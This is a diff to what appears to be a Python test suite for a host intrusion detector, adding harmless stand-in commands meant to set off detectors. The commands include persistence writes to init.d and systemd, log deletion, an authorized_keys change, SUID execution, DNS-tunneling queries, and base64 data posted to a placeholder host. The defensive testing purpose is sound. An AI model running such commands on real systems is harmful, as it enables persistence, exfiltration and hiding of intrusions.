@@ -50,6 +50,21 @@ QUERY = (
     " + b'\\x03abc\\x05ngrok\\x02io\\x00\\x00\\x01\\x00\\x01', ('127.0.0.1', 53))"
 )
 
+#: Programs of acts for which the shell has no words.
+PROGRAMS = Path(__file__).with_name("acts")
+INTERPRETER = os.path.realpath(sys.executable)
+#: The interpreter in a place that no package put it to.
+OWN = f'cp "{INTERPRETER}" p && PYTHONHOME={sys.base_prefix} LD_LIBRARY_PATH={sys.base_prefix}/lib ./p'
+#: A network of one's own in which an address of documentation is this machine's.
+NETWORK = "unshare -n sh -c 'ip link set lo up && ip address add 203.0.113.9/32 dev lo && . ./inner.sh'\n"
+NO_DEVICES = "unshare -m --propagation private sh -c 'mount -t tmpfs x /dev && . ./inner.sh'\n"
+LONG_NAME = "mzxw6ytboi2dqnrrgezdgnbvgy3tqojqmfrggzdfmztwq2lknnwg23tp.example"
+
+
+def python(program: str) -> str:
+    return f'"{INTERPRETER}" "{PROGRAMS}"/{program}'
+
+
 #: detectors expected -> (how, text). `how` is the wrapper of the text, or empty.
 ACTS: dict[str, tuple[str, str]] = {
     "startup_script_persistence": (APART, "echo x >/etc/init.d/x"),
@@ -124,8 +139,43 @@ ACTS: dict[str, tuple[str, str]] = {
     "c2_web_tunnel": ("", "cp /bin/true ngrok && ./ngrok http 80"),
     "mesh_network_joined": ("", "cp /bin/true tailscaled && ./tailscaled"),
     "tunnel_name_lookup": ("", f'"{sys.executable}" query.py'),
+    "kernel_keyring_read": ("", python("key.py")),
+    "mining_pool_connect": (NETWORK, python("connect.py 203.0.113.9 14444")),
+    "log_deletion": (APART, "echo x >/var/log/x.log && rm /var/log/x.log"),
+    "dns_null_query": ("", python("ask.py 10 a.example")),
+    "dns_text_query_by_interpreter": ("", python("ask.py 16 a.example")),
+    "encoded_dns_name": ("", python(f"ask.py 1 {LONG_NAME}")),
+    "dns_tunneling_slow dns_tunneling": (
+        "",
+        f"{python('ask.py 1')} "
+        "$(for n in $(seq 160); do echo $n | sha256sum | cut -c1-40 | sed s/$/.data-carried.example/; done)",
+    ),
+    "tls_from_writable_place suspicious_exec_origin": (
+        NETWORK,
+        f"{python('listen.py 203.0.113.9 18443')} & sleep 1; p=/dev/shm/iwt-$$; cp $(command -v openssl) $p; "
+        "timeout 5 $p s_client -connect 203.0.113.9:18443; rm $p",
+    ),
+    "probe_attached": ("", python("probe.py")),
+    "raw_device_write": (NO_DEVICES, "echo x >/dev/md127"),
+    "raw_memory_open": (NO_DEVICES, "echo x >/dev/kmem"),
+    "authorized_keys_change": ("", "mkdir .ssh && echo x >.ssh/authorized_keys"),
+    "systemd_persistence": (APART, "mkdir -p /etc/systemd/system && echo x >/etc/systemd/system/x.service"),
+    "user_created": ("", "cp /bin/true useradd && ./useradd x"),
+    "new_suid_execution file_permission_mod": (
+        "",
+        "cp /bin/true s && chmod u+s s && setpriv --reuid 61234 --clear-groups ./s",
+    ),
+    "unexplained_root": ("", f'{OWN} "{PROGRAMS}"/root_again.py'),
+    "executable_stack": ("", python("stack.py")),
+    "web_server_shell": ("", "cp /bin/dash nginx && ./nginx -c 'sh -c true; true'"),
+    "shell_network_connect": ("", "cp /bin/dash nginx && ./nginx -c 'curl -s http://127.0.0.1:1/; true'"),
+    "data_encoding": ("", "cp /bin/true curl && echo x | base64 | ./curl -d @- http://x.example/"),
+    "discovery_anomaly discovery_burst": (
+        "",
+        "setsid -w sh -c 'for p in id whoami uname hostname ps who w df free uptime last groups; do $p; done; true'",
+    ),
 }
-NEEDS = ("unshare", "nsenter", "setpriv", "script", "su", "mount")
+NEEDS = ("unshare", "nsenter", "setpriv", "script", "su", "mount", "ip", "openssl", "curl")
 
 
 def mark(name: str) -> str:
